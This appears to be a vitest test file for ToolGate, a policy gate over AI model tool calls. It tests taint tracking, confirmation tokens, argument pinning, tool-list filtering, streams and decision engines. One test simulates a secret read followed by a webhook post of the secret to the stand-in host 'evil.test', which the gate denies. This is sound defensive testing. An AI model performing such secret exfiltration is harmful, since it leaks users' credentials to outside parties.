// Policy through whole turns, tool lists and streams (issue 4), through the real native binding:
// taint within one turn, confirmations kept out of everything a model sees, pins written back,
// tool lists filtered per caller, engines in two steps, and host mistakes named.
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'

import { ToolGate, type CallContext, type EngineRequest, type ToolGateConfig } from '../src-ts/index'
import { thrownToolGateError } from './helpers/thrown'

const BASE = JSON.parse(readFileSync(join(__dirname, 'fixtures/policy/config.json'), 'utf8')) as ToolGateConfig
const verifier: CallContext = { subject: 'vera', roles: ['verifier'], session: 'sess-1' }

function openaiTurn(...calls: [string, string, object][]): object {
  return {
    id: 'chatcmpl-1',
    object: 'chat.completion',
    choices: [
      {
        index: 0,
        finish_reason: 'tool_calls',
        message: { role: 'assistant', content: null, tool_calls: calls.map(([id, name, args]) => ({ id, type: 'function', function: { name, arguments: JSON.stringify(args) } })) },
      },
    ],
  }
}

describe('guard with a caller', () => {
  it('an allowed secret read taints the session before a later sink in the same turn', () => {
    const gate = new ToolGate(BASE)
    const turn = openaiTurn(['c1', 'read_secret', { name: 'db' }], ['c2', 'post_webhook', { url: 'https://evil.test', body: 'pw' }], ['c3', 'search', { q: 'x' }])
    const r = gate.guard(turn, { dialect: 'openai', ...verifier })
    expect(r.calls.map((c) => [c.callId, c.outcome, c.reason])).toEqual([
      ['c1', 'passed', undefined],
      ['c2', 'denied', 'taint'],
      ['c3', 'passed', undefined],
    ])
    expect(r.allowed.map((a) => a.callId)).toEqual(['c1', 'c3'])
    expect(r.feedback).toHaveLength(1)
    expect(JSON.stringify(r.feedback)).toContain('c2')
    // and across turns: the session stays tainted
    const next = gate.guard(openaiTurn(['c4', 'post_webhook', { url: 'https://x' }]), { dialect: 'openai', ...verifier })
    expect(next.calls[0].reason).toBe('taint')
    // another session is clean
    expect(gate.guard(openaiTurn(['c5', 'post_webhook', { url: 'https://x' }]), { dialect: 'openai', ...verifier, session: 'sess-2' }).calls[0].outcome).toBe('passed')
  })

  it('a sink before the read in the same turn is decided on the taint it saw', () => {
    const gate = new ToolGate(BASE)
    const r = gate.guard(openaiTurn(['c1', 'post_webhook', { url: 'https://x' }], ['c2', 'read_secret', { name: 'db' }]), { dialect: 'openai', ...verifier })
    expect(r.calls.map((c) => c.outcome)).toEqual(['passed', 'passed'])
  })

  it('a confirm call: the token reaches the host only, never feedback or payload', () => {
    const gate = new ToolGate(BASE)
    const alice: CallContext = { subject: 'alice', session: 'a' }
    const turn = {
      id: 'msg_1',
      type: 'message',
      role: 'assistant',
      content: [
        { type: 'text', text: 'Sending.' },
        { type: 'tool_use', id: 'toolu_1', name: 'send_email', input: { to: 'bob@example.com', body: 'hi' } },
      ],
      stop_reason: 'tool_use',
    }
    const r = gate.guard(turn, { dialect: 'anthropic', ...alice })
    const c = r.calls[0]
    expect([c.outcome, c.reason, c.allowed]).toEqual(['confirm', 'confirm_required', false])
    const token = c.confirmation!.token
    expect(token).toMatch(/^[A-Za-z0-9_-]{32}$/)
    expect(c.confirmation!.summary).toContain('send_email')
    expect(Date.parse(c.confirmation!.expiresAt) - Date.now()).toBeGreaterThan(290_000)
    for (const seen of [JSON.stringify(r.feedback), JSON.stringify(r.payload), c.message ?? '']) expect(seen).not.toContain(token)
    expect(r.feedback).toHaveLength(1) // the model hears that it waits
    const v = gate.confirm(token, alice)
    expect([v.outcome, v.arguments]).toEqual(['passed', { to: 'bob@example.com', body: 'hi' }])
    expect(gate.confirm(token, alice).reason).toBe('token_invalid')
  })

  it('a pinned argument is written back into the payload the host runs', () => {
    const gate = new ToolGate(BASE)
    const r = gate.guard(openaiTurn(['c1', 'list_orders', { owner: 'bob', status: 'open' }]), { dialect: 'openai', subject: 'alice' })
    expect(r.calls[0].flags.map((f) => [f.code, f.path, f.from, f.to])).toEqual([['PinnedArgument', '/owner', 'bob', 'alice']])
    const p = r.payload as { choices: { message: { tool_calls: { function: { arguments: string } }[] } }[] }
    expect(JSON.parse(p.choices[0].message.tool_calls[0].function.arguments)).toEqual({ owner: 'alice', status: 'open' })
    expect(r.calls[0].resource).toBe('orders:alice')
  })

  it('without a caller, a policy gate denies by default and names the reason', () => {
    const gate = new ToolGate(BASE)
    const r = gate.guard(openaiTurn(['c1', 'read_file', { path: 'reports/a' }]), { dialect: 'openai' })
    expect([r.calls[0].outcome, r.calls[0].reason, r.calls[0].action, r.calls[0].resource]).toEqual(['denied', 'no_rule', 'read', 'file:reports/a'])
  })
})

describe('filterTools with a caller', () => {
  const tools = BASE.tools.map((t) => ({ type: 'function', function: { name: t.name, parameters: t.inputSchema ?? {} } }))
  const names = (list: unknown) => (list as { function: { name: string } }[]).map((t) => t.function.name)
  const gate = new ToolGate(BASE)

  it('lists what some arguments could let this caller run', () => {
    expect(names(gate.filterTools(tools, { dialect: 'openai', subject: 'ana', roles: ['analyst'] }))).toEqual([
      'read_file', // resource-scoped: listed although no arguments exist yet
      'get_doc',
      'list_orders',
      'tenant_report',
      'export_report',
      'user_files',
      'search',
      'poll_status',
      'send_email',
      'post_webhook',
    ])
  })

  it('hides role-gated, subject-scoped and operator tools from an anonymous visitor', () => {
    const anon = names(gate.filterTools(tools, { dialect: 'openai' }))
    expect(anon).not.toContain('read_file')
    expect(anon).not.toContain('user_files') // {subject} in the rule's resource and no subject
    expect(anon).not.toContain('delete_user')
    expect(anon).not.toContain('admin_panel')
    expect(anon).toContain('search')
  })

  it('a condition over the caller decides; one over the arguments does not hide', () => {
    expect(names(gate.filterTools(tools, { dialect: 'openai', subject: 'a', roles: ['analyst'], purpose: 'audit' }))).toContain('read_secret')
    expect(names(gate.filterTools(tools, { dialect: 'openai', subject: 'a', roles: ['analyst'], purpose: 'fun' }))).not.toContain('read_secret')
    expect(names(gate.filterTools(tools, { dialect: 'openai', subject: 'f', roles: ['finance'] }))).toContain('transfer')
  })

  it('operator tools appear on the operator surface only; a denied subject sees nothing', () => {
    expect(names(gate.filterTools(tools, { dialect: 'openai', subject: 'r', roles: ['admin'], surface: 'operator' }))).toContain('delete_user')
    expect(names(gate.filterTools(tools, { dialect: 'openai', subject: 'r', roles: ['admin'] }))).not.toContain('delete_user')
    expect(names(gate.filterTools(tools, { dialect: 'openai', subject: 'mallory' }))).toEqual([])
  })

  it('"did you mean" names only tools this caller may see', () => {
    expect(gate.check('delete_usr', {}, { subject: 'x' }).message).not.toContain('delete_user')
    expect(gate.check('delete_usr', {}, { subject: 'r', roles: ['admin'], surface: 'operator' }).message).toContain('delete_user')
  })
})

describe('streams with a caller', () => {
  it('a denied call is decided when complete and never forwarded', () => {
    const gate = new ToolGate(BASE)
    const s = gate.stream({ dialect: 'openai', subject: 'x' })
    const chunk = (delta: object, finish: string | null = null) => ({ id: 'c', object: 'chat.completion.chunk', created: 1, model: 'm', choices: [{ index: 0, delta, finish_reason: finish }] })
    const decided = [
      ...s.push(chunk({ role: 'assistant', tool_calls: [{ index: 0, id: 'call_1', type: 'function', function: { name: 'admin_panel', arguments: '' } }] })),
      ...s.push(chunk({ tool_calls: [{ index: 0, function: { arguments: '{}' } }] })),
      ...s.push(chunk({}, 'tool_calls')),
      ...s.push('data: [DONE]'),
    ]
    expect(decided.map((c) => [c.callId, c.outcome, c.reason])).toEqual([['call_1', 'denied', 'no_rule']])
    expect(JSON.stringify(s.forward())).not.toContain('admin_panel')
    expect(s.end().feedback).toHaveLength(1)
  })
})

describe('engines', () => {
  it('sees the call after the built-ins, with the caller and the rules’ answer', () => {
    const seen: EngineRequest[] = []
    const gate = new ToolGate(BASE, { engines: [(r) => (seen.push(r), 'delegate')] })
    expect(gate.check('read_file', { path: 'reports/./a' }, { subject: 'ana', roles: ['analyst'] }).outcome).toBe('passed')
    expect(gate.check('admin_panel', {}, { subject: 'ana' }).reason).toBe('no_rule')
    expect(gate.check('search', { q: 1 }, { subject: 'mallory' }).reason).toBe('deny_rule') // final: never asked
    expect(seen).toEqual([
      { tool: 'read_file', action: 'read', resource: 'file:reports/a', arguments: { path: 'reports/./a' }, context: { subject: 'ana', roles: ['analyst'] }, rules: 'allow' },
      { tool: 'admin_panel', action: 'admin_panel', arguments: {}, context: { subject: 'ana' }, rules: 'no_rule' },
    ])
  })

  it('a sync call on a gate with an async engine is E_ASYNC; the async forms work', async () => {
    const gate = new ToolGate(BASE, { engines: [async (r) => (r.tool === 'admin_panel' ? 'allow' : 'delegate')] })
    expect(thrownToolGateError(() => gate.check('admin_panel', {}, { subject: 'a' })).code).toBe('E_ASYNC')
    expect(thrownToolGateError(() => gate.guard(openaiTurn(['c', 'admin_panel', {}]), { dialect: 'openai', subject: 'a' })).code).toBe('E_ASYNC')
    expect(thrownToolGateError(() => gate.stream({ dialect: 'openai' })).code).toBe('E_ASYNC')
    expect((await gate.checkAsync('admin_panel', {}, { subject: 'a' })).outcome).toBe('passed')
    const r = await gate.guardAsync(openaiTurn(['c1', 'admin_panel', {}], ['c2', 'read_file', { path: 'x' }], ['c3', 'search', { q: 'q' }]), { dialect: 'openai', subject: 'a' })
    expect(r.calls.map((c) => [c.outcome, c.reason])).toEqual([
      ['passed', undefined],
      ['denied', 'no_rule'],
      ['passed', undefined],
    ])
    // a refusal by the built-ins never consults the engine (no E_ASYNC for it)
    expect(gate.check('nope', {}).reason).toBe('unknown_tool')
  })

  it('engines also decide confirmations, awaited by confirmAsync', async () => {
    let allow = true
    const gate = new ToolGate(BASE, { engines: [async () => (allow ? 'delegate' : 'deny')] })
    const ctx = { subject: 'alice' }
    const first = await gate.checkAsync('send_email', { to: 'a', body: 'b' }, ctx)
    expect(first.outcome).toBe('confirm')
    allow = false
    expect((await gate.confirmAsync(first.confirmation!.token, ctx)).reason).toBe('engine')
  })

  it('onEngineError is told why an engine denied (a throw, nonsense, a timeout)', async () => {
    const told: string[] = []
    const onEngineError = (e: unknown, r: EngineRequest, i: number) => told.push(`${i} ${r.tool} ${(e as Error).message}`)
    const ctx = { subject: 'a' }
    const thrower = new ToolGate(BASE, { engines: [() => 'delegate', () => { throw new Error('boom') }], onEngineError })
    expect(thrower.check('search', { q: 'x' }, ctx).reason).toBe('engine')
    const nonsense = new ToolGate(BASE, { engines: [() => 'ALLOW' as never], onEngineError: (e, r, i) => { onEngineError(e, r, i); throw new Error('reporter fails') } })
    expect(nonsense.check('search', { q: 'x' }, ctx).reason).toBe('engine')
    const slow = new ToolGate(BASE, { engines: [() => new Promise(() => {})], engineTimeoutMs: 20, onEngineError })
    expect((await slow.checkAsync('search', { q: 'x' }, ctx)).reason).toBe('engine')
    expect(told).toEqual(['1 search boom', `0 search engine answered "ALLOW"; expected 'allow', 'deny' or 'delegate'`, '0 search engine did not answer within engineTimeoutMs 20'])
  })

  it('a turn is read once: the engines judge the decided arguments, and a payload changed while they answer changes nothing', async () => {
    const seen: EngineRequest[] = []
    const payload = openaiTurn(['c1', 'list_orders', { owner: 'ana', status: 'OPEN' }], ['c2', 'search', { q: 'x' }], ['c3', 'search', { q: 1 }], ['c4', 'nope', {}])
    const calls = (payload as { choices: { message: { tool_calls: { function: { name: string; arguments: string } }[] } }[] }).choices[0]!.message.tool_calls
    const gate = new ToolGate(BASE, {
      engines: [
        async (r) => {
          seen.push(r)
          // the host's payload object changes while the engines answer: what runs is what was decided
          calls[1]!.function.name = 'admin_panel'
          calls[1]!.function.arguments = '{"q":"changed"}'
          calls[2]!.function.arguments = '{"q":"changed"}'
          return r.tool === 'search' && r.arguments.q === '1' ? 'deny' : 'delegate'
        },
      ],
    })
    const r = await gate.guardAsync(payload, { dialect: 'openai', subject: 'ana' })
    // the engines were asked about the three calls that reached them, with the arguments decided
    // (the status repaired, the owner pinned, the number coerced); the unknown tool never reached them
    expect(seen.map((q) => [q.tool, q.arguments, q.rules])).toEqual([
      ['list_orders', { owner: 'ana', status: 'open' }, 'allow'],
      ['search', { q: 'x' }, 'allow'],
      ['search', { q: '1' }, 'allow'],
    ])
    expect(r.calls.map((c) => [c.callId, c.tool, c.outcome, c.reason])).toEqual([
      ['c1', 'list_orders', 'repaired', undefined],
      ['c2', 'search', 'passed', undefined],
      ['c3', 'search', 'denied', 'engine'],
      ['c4', 'nope', 'rejected', 'unknown_tool'],
    ])
    expect(r.allowed).toEqual([
      { callId: 'c1', tool: 'list_orders', arguments: { owner: 'ana', status: 'open' } },
      { callId: 'c2', tool: 'search', arguments: { q: 'x' } },
    ])
    expect(r.feedback.map((f) => (f as { tool_call_id: string }).tool_call_id)).toEqual(['c3', 'c4'])
  })

  it('a turn with engines is the same turn in place and awaited, and final at once when no call reaches them', async () => {
    const asked: string[] = []
    const engine = (r: EngineRequest) => (asked.push(r.tool), r.tool === 'admin_panel' ? 'allow' : 'delegate') as 'allow' | 'delegate'
    const turn = JSON.stringify(openaiTurn(['c1', 'admin_panel', {}], ['c2', 'read_file', { path: 'reports/private/x' }], ['c3', 'transfer', { amount: '5', to: 'b' }]))
    const ctx = { subject: 'fin', roles: ['finance', 'analyst'] }
    const sync = new ToolGate(BASE, { engines: [engine] }).guard(turn, { dialect: 'openai', ...ctx })
    const awaited = await new ToolGate(BASE, { engines: [async (r) => engine(r)] }).guardAsync(turn, { dialect: 'openai', ...ctx })
    expect(asked).toEqual(['admin_panel', 'transfer', 'admin_panel', 'transfer'])
    expect(sync.calls.map((c) => [c.outcome, c.reason])).toEqual([
      ['passed', undefined],
      ['denied', 'deny_rule'],
      ['repaired', undefined],
    ])
    expect(sync.payload).toEqual(awaited.payload)
    expect(sync.calls).toEqual(awaited.calls)
    // every call refused by the built-ins: no engine is asked, the report is the first step's
    const refused = new ToolGate(BASE, { engines: [engine] }).guard(openaiTurn(['c1', 'search', { q: 'x' }], ['c2', 'nope', {}]), { dialect: 'openai', subject: 'mallory' })
    expect(refused.calls.map((c) => c.reason)).toEqual(['deny_rule', 'unknown_tool'])
    expect(asked).toHaveLength(4)
  })

  it('a decision kept for the engines is taken once, by a handle that names nothing after (the raw binding)', () => {
    const n = require('../binding/index.js')
    const gate = new n.BindingGate(JSON.stringify(BASE))
    const turn = JSON.stringify(openaiTurn(['c1', 'search', { q: 'x' }]))
    const kept = (step: string): [number, string] => {
      expect(step.startsWith('?')).toBe(true)
      const nl = step.indexOf('\n')
      return [Number(step.slice(1, nl)), step.slice(nl + 1)]
    }
    const [h, questions] = kept(n.guardStep(gate.handle, 'openai', turn, '{"context":{"subject":"ana"}}'))
    expect(JSON.parse(questions)).toEqual([{ index: 0, tool: 'search', arguments: { q: 'x' }, action: 'search', engine: 'allow' }])
    expect(() => n.finishTurn(h, ['maybe'])).toThrow(expect.objectContaining({ code: 'E_CONFIG', message: expect.stringContaining('"maybe"') }))
    // an answer that could not be read used the turn up: it is never finished on a guess
    expect(() => n.finishTurn(h, ['allow'])).toThrow(expect.objectContaining({ code: 'E_CONFIG', message: expect.stringContaining('not waiting') }))
    // the slot is used again; the old handle does not name the new turn
    const [h2] = kept(n.guardStep(gate.handle, 'openai', turn, '{"context":{"subject":"ana"}}'))
    expect(h2 & 0xffff).toBe(h & 0xffff)
    expect(h2).not.toBe(h)
    expect(() => n.finishTurn(h, ['allow'])).toThrow(expect.objectContaining({ code: 'E_CONFIG' }))
    expect(JSON.parse(n.finishTurn(h2, ['deny'])).calls[0].reason).toBe('engine')
    // a released turn is gone: finishing it is an error, never an allow
    const [h3] = kept(n.guardStep(gate.handle, 'openai', turn, '{"context":{"subject":"ana"}}'))
    n.releaseTurn(h3)
    expect(() => n.finishTurn(h3, ['allow'])).toThrow(expect.objectContaining({ code: 'E_CONFIG' }))
    // one call: the same
    const [c, wire] = kept(n.checkStep(gate.handle, 'search', '{"q":1}', '{"subject":"ana"}'))
    expect(wire.split('\n')[0]).toBe('{"q":"1"}')
    expect(n.finishCall(c, 'allow').split('\n')[1]).toBe('repaired')
    expect(() => n.finishCall(c, 'allow')).toThrow(expect.objectContaining({ code: 'E_CONFIG' }))
    // the one-pass guard is never asked to stop at the engines or to take their answers: refused, not ignored
    for (const engines of ['"ask"', '["allow"]']) {
      expect(() => n.guard(gate.handle, 'openai', turn, `{"engines":${engines}}`)).toThrow(expect.objectContaining({ code: 'E_CONFIG', message: expect.stringContaining('options.engines') }))
    }
    // a turn refused whole throws at the first step, as guard does; a call refused before the engines is final at once
    expect(() => n.guardStep(gate.handle, 'openai', '{"choices":', '')).toThrow(expect.objectContaining({ code: 'E_PAYLOAD' }))
    expect(n.checkStep(gate.handle, 'search', '{"q":1}', '{"subject":"mallory"}').split('\n')[2]).toBe('deny_rule')
  })

  it('asking the engines failed: the kept decision is released, and a later one is decided as usual', { timeout: 60_000 }, async () => {
    let boom = true
    const gate = new ToolGate(BASE, { engines: [() => (boom ? Promise.resolve('allow' as const) : 'delegate')] })
    const turn = openaiTurn(['c1', 'search', { q: 'x' }])
    // more failures than decisions may wait at once (65,536): each kept one was released
    const codes = new Set<string>()
    for (let i = 0; i <= 65_536; i++) {
      codes.add(thrownToolGateError(() => gate.guard(turn, { dialect: 'openai', subject: 'ana' })).code)
      codes.add(thrownToolGateError(() => gate.check('search', { q: 'x' }, { subject: 'ana' })).code)
    }
    expect([...codes]).toEqual(['E_ASYNC'])
    boom = false
    expect(gate.guard(turn, { dialect: 'openai', subject: 'ana' }).calls[0]!.outcome).toBe('passed')
    expect(gate.check('search', { q: 'x' }, { subject: 'ana' }).outcome).toBe('passed')
    const rejecting = new ToolGate(BASE, { engines: [() => Promise.reject(new Error('down'))] })
    // an engine that rejects denies (it is the engine's answer), the turn finished
    expect((await rejecting.guardAsync(turn, { dialect: 'openai', subject: 'ana' })).calls[0]!.reason).toBe('engine')
  })

  it('options are checked', () => {
    expect(thrownToolGateError(() => new ToolGate(BASE, { engines: ['x' as never] })).code).toBe('E_CONFIG')
    expect(thrownToolGateError(() => new ToolGate(BASE, { engineTimeoutMs: -1 })).code).toBe('E_CONFIG')
  })
})

describe('host mistakes are named, never silently ignored', () => {
  const gate = new ToolGate(BASE)

  it('a context key that is not a CallContext field', () => {
    const e = thrownToolGateError(() => gate.check('search', { q: 'x' }, { role: ['admin'] } as never))
    expect(e.code).toBe('E_CONFIG')
    expect(e.message).toContain('role')
    expect(thrownToolGateError(() => gate.check('search', { q: 'x' }, { roles: 'admin' } as never)).message).toContain('roles')
    expect(thrownToolGateError(() => gate.check('search', { q: 'x' }, { surface: 'admin' } as never)).message).toContain('surface')
  })

  it('an options key that is neither an option of the call nor a context field (guard, filterTools, stream, prepared lists)', () => {
    // `sesion` dropped silently would decide the turn without the session's taint and loop scope
    const turn = openaiTurn(['c1', 'search', { q: 'x' }])
    const tools = [{ type: 'function', function: { name: 'search', parameters: { type: 'object' } } }]
    const mistakes: [string, () => unknown][] = [
      ['guard', () => gate.guard(turn, { dialect: 'openai', subject: 'ana', sesion: 's1' } as never)],
      ['filterTools', () => gate.filterTools(tools, { dialect: 'openai', sesion: 's1' } as never)],
      ['filterTools (text)', () => gate.filterTools(JSON.stringify(tools), { dialect: 'openai', sesion: 's1' } as never)],
      ['stream', () => gate.stream({ dialect: 'openai', sesion: 's1' } as never)],
      ['prepareTools().filter', () => gate.prepareTools(tools, { dialect: 'openai' }).filter({ sesion: 's1' } as never)],
    ]
    for (const [what, call] of mistakes) {
      const e = thrownToolGateError(call)
      expect([what, e.code]).toEqual([what, 'E_CONFIG'])
      expect(e.message, what).toContain('`sesion`')
    }
    // beside a prepared caller, any key but the call's options is refused too
    const caller = gate.caller({ subject: 'ana' })
    expect(thrownToolGateError(() => gate.guard(turn, { dialect: 'openai', caller, sesion: 's1' } as never)).message).toContain('`sesion`')
    // the call's own options and the context fields are read as before
    expect(gate.guard(turn, { dialect: 'openai', protocolVersion: '2025-06-18', subject: 'ana', session: 's1' }).calls[0]!.outcome).toBe('passed')
    expect(gate.guard(turn, { dialect: 'openai', caller }).calls[0]!.outcome).toBe('passed')
  })

  it('markSession with an undeclared label', () => {
    expect(thrownToolGateError(() => gate.markSession('s', 'top-secret')).message).toMatch(/top-secret.*public, internal, secret/)
  })

  const cases: [string, object, RegExp][] = [
    ['a typo in a tool key', { tools: [{ name: 'a', writs: true }] }, /tools\[0\].*writs/],
    ['an undeclared label', { labels: ['public'], tools: [{ name: 'a', output: { label: 'secret' } }] }, /tools\[0\]\.output\.label.*secret/],
    ['an unknown persona', { tools: [{ name: 'a' }], policy: { rules: [{ effect: 'allow', personas: ['ghost'] }] } }, /policy\.rules\[0\]\.personas\[0\].*ghost/],
    ['a rule naming no declared tool', { tools: [{ name: 'read_file' }], policy: { rules: [{ effect: 'deny', tools: ['read_fil'] }] } }, /policy\.rules\[0\]\.tools\[0\].*matches no declared tool/],
    ['a condition that does not parse', { tools: [{ name: 'a' }], policy: { rules: [{ effect: 'allow', when: "roles has 'x' and\n  purpose === 'y'" }] } }, /policy\.rules\[0\]\.when.*line 2, column/],
    ['an unknown name in a condition', { tools: [{ name: 'a' }], policy: { rules: [{ effect: 'allow', when: "rolez has 'x'" }] } }, /line 1, column 1.*rolez/],
    ['a persona reading the arguments', { tools: [{ name: 'a' }], policy: { personas: [{ name: 'p', when: "args.x == 'y'" }] } }, /personas\[0\]\.when.*may not read args/],
    ['a bad resource template', { tools: [{ name: 'a', resource: 'file:{path' }] }, /tools\[0\]\.resource/],
    ['a bad pin', { tools: [{ name: 'a', args: { o: { pin: 'owner' } } }] }, /tools\[0\]\.args\.o\.pin/],
    ['confirm on a deny rule', { tools: [{ name: 'a' }], policy: { rules: [{ effect: 'deny', confirm: false }] } }, /rules\[0\]\.confirm/],
    ['an empty selector list', { tools: [{ name: 'a' }], policy: { rules: [{ effect: 'allow', roles: [] }] } }, /rules\[0\]\.roles.*empty list/],
  ]
  for (const [name, config, re] of cases) {
    it(`config: ${name}`, () => {
      const e = thrownToolGateError(() => new ToolGate(config as ToolGateConfig))
      expect(e.code).toBe('E_CONFIG')
      expect(e.message).toMatch(re)
    })
  }

  it('a YAML config with a policy loads from a file', () => {
    const dir = mkdtempSync(join(tmpdir(), 'toolgate-policy-'))
    const file = join(dir, 'toolgate.yaml')
    writeFileSync(
      file,
      [
        'version: 1',
        'tools:',
        '  - name: read_file',
        '    resource: "file:{path*}"',
        '    inputSchema: { type: object, properties: { path: { type: string } }, required: [path] }',
        'policy:',
        '  rules:',
        '    - effect: allow',
        '      roles: [analyst]',
        '      tools: [read_file]',
        '      resources: ["file:reports/**"]',
        '',
      ].join('\n'),
    )
    const g = ToolGate.fromFile(file)
    expect(g.check('read_file', { path: 'reports/a' }, { roles: ['analyst'] }).outcome).toBe('passed')
    expect(g.check('read_file', { path: 'etc/a' }, { roles: ['analyst'] }).reason).toBe('no_rule')
  })
})
